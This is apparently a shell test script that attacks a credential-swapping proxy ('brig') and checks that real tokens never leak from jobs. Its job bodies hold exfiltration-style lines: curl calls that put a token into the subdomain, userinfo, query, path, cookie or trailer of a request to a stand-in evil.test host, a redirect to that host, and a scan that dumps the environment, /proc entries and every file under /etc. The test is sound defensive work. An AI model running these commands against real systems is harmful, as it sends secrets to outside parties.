#!/bin/sh
# Attacks on the stub and its swap.  Numbers: README.md here.
# shellcheck disable=SC2016
# shellcheck source=lib.sh
. "$BRIG_SRCDIR/tests/attack/lib.sh"
attack_setup attack-swap

G="https://good.test:$GOOD"
E="https://evil.test:$EVIL"
O="https://other.test:$OTHER"
auth='-H "Authorization: Bearer $GOOD_TOKEN"'

job "curl -sS $auth $G/control-swap; curl -sS $E/control-evil; echo \$GOOD_TOKEN"
check "control: the bound host gets the real value" \
    reached good.test "Bearer $CANARY"
check "control: the other host is reachable from a job" \
    reached evil.test "/control-evil"
check "control: a stub of the same length and shape is in the job" \
    grep -qE '^ghp_[A-Za-z0-9]{36}$' "$T/job.out"
check "control: it is not the real value" job_does_not_say "$CANARY"

job "curl -sS $auth $E/a01"
check "01 stub to a host it is not bound to: 403 with a reason" \
    job_says '"error"'
check "01 nothing reached that host" not_reached evil.test /a01
check "01 the attempt is in the audit log" audited SE401 /a01

job 'curl -sS -H "Authorization: Bearer $GOOD_TOKEN" '"$O/a02"
check "02 stub of one secret to the host of another: refused" \
    job_says '"error"'
check "02 nothing reached that host" not_reached other.test /a02
job 'curl -sS -H "Authorization: Bearer $OTHER_TOKEN" '"$O/a02-control"
check "02 control: that host's own stub is swapped there" \
    reached other.test "Bearer $OTHER_REAL"

# 05: spellings of Basic.  Swapped to the real value or refused, never passed.
job 'b() { printf "user:%s" "$GOOD_TOKEN" | base64 -w0; }
curl -sS -H "Authorization: Basic $(b)" '"$G"'/a05-std
curl -sS -H "Authorization: basic $(b)" '"$G"'/a05-lower
curl -sS -H "Authorization: Basic  $(b)" '"$G"'/a05-spaces
curl -sS -H "Authorization: Basic $(b | tr -d =)" '"$G"'/a05-nopad
curl -sS -H "Authorization: Basic $(b | tr "+/" "-_")" '"$G"'/a05-url
b >/workspace/a05.stub'
check "05 control: standard Basic is swapped" \
    reached good.test "$(printf 'user:%s' "$CANARY" | base64 -w0)"
stub_b64=$(tr -d '=' <"$T/ws/a05.stub")
check "05 no spelling of Basic passes the stub on" \
    not_reached good.test "$stub_b64"

direct_curl good.test "$GOOD" -H "Authorization: Bearer $CANARY" "$G/leak?08"
check "08 control: the origin does echo the value in all spellings" \
    sh -c 'grep -q "raw=$0" "$1" && grep -q "split=$0" "$1" &&
        grep -q "hex=$(printf %s "$0" | od -An -v -tx1 | tr -d " \n")" "$1"' \
    "$CANARY" "$T/outside.out"
job "curl -sS -D - $auth $G/leak?08; echo; echo \"stub=\$GOOD_TOKEN\""
check "08 the job sees no spelling of the real value" no_canary "$T/job.out"
check "08 what it sees is the stub" \
    sh -c 's=$(sed -n "s/^stub=//p" "$0"); grep -q "raw=$s" "$0" &&
        grep -q "split=$s" "$0" && grep -qi "x-echo: Bearer $s" "$0"' \
    "$T/job.out"

job "curl -sS $auth -o /dev/null '$G/a10-control?[1-20]'"
check "10 control: some requests with a secret are no event" \
    not_audited SE102
job "curl -sS $auth -o /dev/null '$G/a10?[1-1100]'"
check "10 control: many requests with a secret go out" \
    reached good.test "/a10?1100 "
check "10 and are an event of the audit log" \
    wait_for 10 audited SE102 good.test 1001

job 'env; tr "\0" "\n" </proc/self/environ; cat /proc/self/cmdline
od -An -c /proc/self/auxv; cat /proc/1/cmdline; env | base64
for f in /etc/*; do [ -f "$f" ] && cat "$f"; done 2>/dev/null
ls -la /proc/self/fd /home /tmp /workspace'
check "11 control: the scan finds the stub" job_says "GOOD_TOKEN=ghp_"
check "11 environment, argv, auxv and files hold no real value" \
    no_canary "$T/job.out"

brig submit -w "$T/ws" -- sh -c 'echo "$GOOD_TOKEN" >/workspace/a13.stub; sleep 20' >"$T/a13.id"
check "13 control: another job runs and has a stub" \
    wait_for 10 test -s "$T/ws/a13.stub"
job "curl -sS -H \"Authorization: Bearer \$(cat /workspace/a13.stub)\" $G/a13"
check "13 the stub of another job is worth nothing" \
    not_reached good.test "$(cat "$T/ws/a13.stub")"
check "13 and brings no real value" sh -c \
    '! grep a13 "$0" | grep -F "$1"' "$T/good.test.rec" "$CANARY"
brig kill -s KILL "$(cat "$T/a13.id")" >/dev/null 2>&1 || :

# 15: everywhere else that a stub can be put.
job 's=$GOOD_TOKEN; u=$(echo "$s" | tr _ -)
curl -sS -m 10 "https://$u.evil.test:'"$EVIL"'/a15-label"
curl -sS -m 10 "https://$s@evil.test:'"$EVIL"'/a15-userinfo"
curl -sS -m 10 "'"$E"'/a15-query?t=$s"
curl -sS -m 10 "'"$E"'/a15-path/$s"
curl -sS -m 10 -X "$s" '"$E"'/a15-method
curl -sS -m 10 -H "$s: 1" '"$E"'/a15-name
curl -sS -m 10 -b "t=$s" '"$E"'/a15-cookie
curl -sS -m 10 "'"$E"'/a15-escaped?t=$(printf %s "$s" | od -An -v -tx1 | tr -d "\n" | sed "s/ /%/g")"
printf "POST /a15-trailer HTTP/1.1\r\nHost: evil.test:'"$EVIL"'\r\nTransfer-Encoding: chunked\r\nTrailer: X-T\r\n\r\n2\r\nhi\r\n0\r\nX-T: %s\r\n\r\n" "$s" |
  timeout 10 openssl s_client -quiet -ign_eof -connect evil.test:'"$EVIL"' -servername evil.test 2>/dev/null | head -n 1
curl -sS -m 10 -F "f=x;filename=$s" '"$E"'/a15-multipart
echo "$s" >/workspace/a15.stub'
for where in label userinfo query path method name cookie escaped; do
    check "15 stub in the $where of a request elsewhere: not passed on" \
        not_reached evil.test "/a15-$where"
done
stub=$(cat "$T/ws/a15.stub")
check "15 a stub in a trailer is not passed on" sh -c \
    '! grep a15-trailer "$0" | grep -F "$1"' "$T/evil.test.rec" "$stub"
check "15 a stub in a body passes, and is recorded" \
    audited SE1 /a15-multipart

job "curl -sS $auth http://plain.test:$PLAIN/a18; curl -sS http://plain.test:$PLAIN/a18-control"
check "18 control: plain HTTP works without a stub" \
    reached plain.test /a18-control
check "18 a stub over plain HTTP is refused" job_says '"error"'
check "18 and goes nowhere" not_reached plain.test "/a18 "

job "curl -sS -L --location-trusted $auth '$G/redirect?$E/a19'"
check "19 control: the redirect was served" reached good.test "/redirect?"
check "19 the credential does not follow a redirect" \
    not_reached evil.test /a19

check "21 no real value at rest: state, logs, run directory" sh -c '
    . "$BRIG_SRCDIR/tests/attack/lib.sh"
    CANARY=$0 OTHER_REAL=$1
    find "$T/state" "$T/log" "$T/run" "$T/brigd.log" -type f >"$T/files"
    test -s "$T/files"
    while read -r f; do no_canary "$f" || exit 1; done <"$T/files"' \
    "$CANARY" "$OTHER_REAL"
brig submit -- sleep 30 >"$T/a21.id"
sleep 1
brig --json status >"$T/a21.json"
check "21 processes that can hold a value leave no core" python3 - "$T/a21.json" <<'EOF'
import json, sys
n = 0
for p in json.load(open(sys.argv[1]))['processes']:
    if p['role'] in ('keyd', 'back'):
        n += 1
        core = [l for l in open(f'/proc/{p["pid"]}/limits')
                if l.startswith('Max core')][0]
        # One byte: with 0 a piped dump would still be made (core(5)).
        assert core.split()[4:6] == ['1', '1'], core
assert n >= 2, n
EOF
brig kill -s KILL "$(cat "$T/a21.id")" >/dev/null 2>&1 || :
attack_end
